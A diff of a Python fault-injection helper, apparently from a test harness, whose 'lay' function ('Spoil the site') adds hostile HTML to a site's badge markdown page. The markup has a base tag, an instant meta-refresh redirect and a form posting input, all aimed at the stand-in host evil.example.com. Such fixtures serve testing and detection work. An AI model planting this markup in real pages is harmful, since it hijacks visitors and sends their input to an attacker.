@@ -4,20 +4,17 @@ from __future__ import annotations
 
 from pathlib import Path
 
-from faults.tools import replace, write
+from faults.tools import add_to_criteria
 
 
 def lay(root: Path) -> None:
     """Spoil the site."""
-    write(
+    add_to_criteria(
         root,
-        "content/badges/meeting.md",
-        (root / "content/badges/meeting.md").read_bytes()
-        + (
+        (
             b"\n"
             b'<base href="https://evil.example.com/">'
             b'<meta http-equiv="refresh" content="0;url=https://evil.example.com/">'
             b'<form action="https://evil.example.com/"><input name=q></form><p id="main">x</p>\n'
         ),
     )
-    replace(root, "content/badges/meeting.md", "kind: participation", 'version: "2"\nkind: participation')
